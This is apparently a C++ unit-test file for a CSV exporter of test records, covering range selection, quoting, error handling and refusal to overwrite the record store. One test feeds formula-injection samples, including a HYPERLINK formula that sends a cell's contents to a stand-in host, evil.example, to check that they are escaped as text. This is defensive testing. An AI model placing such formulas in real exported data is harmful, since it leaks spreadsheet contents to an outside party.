#include "record_store.h"
#include "records_csv.h"

#include <QTemporaryDir>
#include <gtest/gtest.h>

#include <filesystem>
#include <fstream>
#include <sstream>

namespace {
TestRecord Record(std::int64_t start)
{
    TestRecord r;
    r.startMs = start;
    r.endMs = start + 10;
    r.stationId = "st";
    for (int k = 0; k < GRID_CHANNELS; ++k)
        r.values[static_cast<std::size_t>(k)] = static_cast<std::uint16_t>(1000 + k);
    return r;
}

// RFC 4180, as a spreadsheet reads it.
std::vector<std::vector<std::string>> ParseCsv(const std::string& text)
{
    std::vector<std::vector<std::string>> rows(1, std::vector<std::string>(1));
    bool quoted = false;
    for (std::size_t i = 0; i < text.size(); ++i) {
        const char c = text[i];
        std::string& field = rows.back().back();
        if (quoted) {
            if (c == '"' && i + 1 < text.size() && text[i + 1] == '"')
                field += '"', ++i;
            else if (c == '"')
                quoted = false;
            else
                field += c;
        } else if (c == '"') {
            quoted = true;
        } else if (c == ',') {
            rows.back().emplace_back();
        } else if (c == '\r' && i + 1 < text.size() && text[i + 1] == '\n') {
            ++i;
            rows.emplace_back(1);
        } else {
            field += c;
        }
    }
    if (rows.back().size() == 1 && rows.back()[0].empty())
        rows.pop_back();
    return rows;
}

class ExportTest : public ::testing::Test {
protected:
    void SetUp() override
    {
        store = dir.filePath("records.sqlite").toStdString();
        csv = dir.filePath("out.csv").toStdString();
        RecordStore s;
        ASSERT_TRUE(s.Open(store, false, nullptr));
        TestRecord odd = Record(2000);
        odd.stationId = "线体 3, \"A\"";
        odd.boardIdentity = "two\r\nlines";
        odd.pass = false;
        odd.failingChannels = 1u << 4 | 1u << 9;
        odd.rangeHigh = 1234.5;
        ASSERT_TRUE(s.Insert({Record(1000), odd, Record(3000)}, nullptr));
    }
    std::string Text() const
    {
        std::ifstream in(csv, std::ios::binary);
        std::stringstream text;
        text << in.rdbuf();
        return text.str();
    }
    std::vector<std::vector<std::string>> Export(std::int64_t since, std::int64_t until)
    {
        const ExportResult result = ExportRecords(store, since, until, csv);
        EXPECT_TRUE(result.ok) << result.error;
        return ParseCsv(Text());
    }
    std::int64_t Stored() const
    {
        RecordStore s;
        std::int64_t n = -1;
        if (!s.Open(store, true, nullptr) || !s.Count(0, INT64_MAX, &n, nullptr))
            ADD_FAILURE() << store << " cannot be read";
        return n;
    }
    QTemporaryDir dir;
    std::string store, csv;
};

TEST_F(ExportTest, TheRangeTakesItsStartAndLeavesItsEnd)
{
    struct Row {
        std::int64_t since, until;
        std::vector<std::string> starts;
    } rows[] = {
        {0, 1000, {}},
        {1000, 2000, {"1970-01-01T00:00:01.000Z"}},
        {1001, 3000, {"1970-01-01T00:00:02.000Z"}},
        {1000, 3001, {"1970-01-01T00:00:01.000Z", "1970-01-01T00:00:02.000Z", "1970-01-01T00:00:03.000Z"}},
        {3000, INT64_MAX, {"1970-01-01T00:00:03.000Z"}},
        {5000, 4000, {}},
    };
    for (const Row& r : rows) {
        SCOPED_TRACE(r.since);
        const auto table = Export(r.since, r.until);
        ASSERT_EQ(table.size(), r.starts.size() + 1);
        for (std::size_t i = 0; i < r.starts.size(); ++i)
            EXPECT_EQ(table[i + 1][0], r.starts[i]);
    }
}

TEST_F(ExportTest, ASpreadsheetReadsEveryFieldBack)
{
    const auto table = Export(2000, 2001);
    ASSERT_EQ(table.size(), 2u);
    const auto& header = table[0];
    const auto& row = table[1];
    ASSERT_EQ(header.size(), 14u + 5 * 32);
    ASSERT_EQ(row.size(), header.size());
    auto field = [&](const std::string& name) {
        for (std::size_t i = 0; i < header.size(); ++i)
            if (header[i] == name)
                return row[i];
        ADD_FAILURE() << name;
        return std::string();
    };
    EXPECT_EQ(field("station"), "线体 3, \"A\"");
    EXPECT_EQ(field("board_identity"), "two\r\nlines");
    EXPECT_EQ(field("verdict"), "FAIL");
    EXPECT_EQ(field("failing_channels"), "4 9");
    EXPECT_EQ(field("range_high"), "1234.5");
    EXPECT_EQ(field("value_00"), "1000");
    EXPECT_EQ(field("value_31"), "1031");
    EXPECT_EQ(field("mask_31"), "0");
}

TEST_F(ExportTest, AMissingStoreOrAnUnwritableTargetFailsAndLeavesNoFile)
{
    ExportResult r = ExportRecords(dir.filePath("none.sqlite").toStdString(), 0, INT64_MAX, csv);
    EXPECT_FALSE(r.ok);
    EXPECT_NE(r.error.find("none.sqlite"), std::string::npos);
    r = ExportRecords(store, 0, INT64_MAX, dir.filePath("no/such/folder/out.csv").toStdString());
    EXPECT_FALSE(r.ok);
    EXPECT_FALSE(r.error.empty());

    int calls = 0;
    r = ExportRecords(store, 0, INT64_MAX, csv, [&](std::int64_t, std::int64_t) { return ++calls < 0; });
    EXPECT_TRUE(r.ok); // fewer rows than a progress step: nothing to cancel
    EXPECT_EQ(r.rows, 3);
}

// Text that came from outside reaches a spreadsheet as text, never as a formula, and reads back as
// it was.
TEST_F(ExportTest, AFieldThatWouldStartAFormulaIsTakenAsText)
{
    const std::string link = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";
    const struct {
        std::string text, field;
    } cases[] = {
        {link, "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\""},
        {"+1+cmd", "\"'+1+cmd\""},
        {"-2+3", "\"'-2+3\""},
        {"@SUM(A1)", "\"'@SUM(A1)\""},
        {"\t=1", "\"'\t=1\""},
        {"\r=1", "\"'\r=1\""},
        {"'=1", "\"''=1\""}, // an apostrophe of its own keeps it, so it reads back exactly
        {"merrowin-demo", "merrowin-demo"},
        {"a=b", "a=b"},
        {"'quoted", "'quoted"},
        {"", ""},
    };
    std::vector<TestRecord> records;
    for (const auto& c : cases) {
        SCOPED_TRACE(c.text);
        EXPECT_EQ(CsvField(c.text), c.field);
        TestRecord r = Record(static_cast<std::int64_t>(10000 + records.size()));
        r.boardIdentity = r.stationId = r.boardKind = r.configHash = c.text;
        records.push_back(r);
    }
    {
        RecordStore s;
        ASSERT_TRUE(s.Open(store, false, nullptr));
        ASSERT_TRUE(s.Insert(records, nullptr));
    }
    const auto table = Export(10000, 20000);
    ASSERT_EQ(table.size(), records.size() + 1);
    EXPECT_EQ(table[1][4], "'" + link); // as a spreadsheet shows it
    EXPECT_EQ(table[8][4], "merrowin-demo");

    std::istringstream in(Text());
    std::size_t i = 0;
    std::string error;
    EXPECT_TRUE(ReadCsvRecords(
        in,
        [&](const TestRecord& r) {
            const TestRecord& w = records.at(i++);
            EXPECT_EQ(r.boardIdentity, w.boardIdentity);
            EXPECT_EQ(r.stationId, w.stationId);
            EXPECT_EQ(r.configHash, w.configHash);
            EXPECT_EQ(r.startMs, w.startMs);
            EXPECT_EQ(r.values, w.values);
            return true;
        },
        &error))
        << error;
    EXPECT_EQ(i, records.size());
}

// An export never replaces the records it reads, whatever name the target goes by.
TEST_F(ExportTest, TheStoreItselfIsRefusedAsTheTarget)
{
    namespace fs = std::filesystem;
    const std::string folder = dir.path().toStdString();
    fs::create_directory(folder + "/sub");
    fs::create_symlink(store, folder + "/link.csv");
    fs::create_hard_link(store, folder + "/hard.csv");
    fs::create_symlink(store + "-wal", folder + "/wal-link.csv");
    for (const std::string& target : {store, folder + "/sub/../records.sqlite", folder + "/link.csv",
                                      folder + "/hard.csv", store + "-wal", store + "-shm", folder + "/wal-link.csv"}) {
        SCOPED_TRACE(target);
        const ExportResult r = ExportRecords(store, 0, INT64_MAX, target);
        EXPECT_FALSE(r.ok);
        EXPECT_NE(r.error.find("where the test records are kept"), std::string::npos) << r.error;
        EXPECT_EQ(Stored(), 3);
    }
    EXPECT_TRUE(ExportRecords(store, 0, INT64_MAX, folder + "/sub/../out.csv").ok);
}
} // namespace
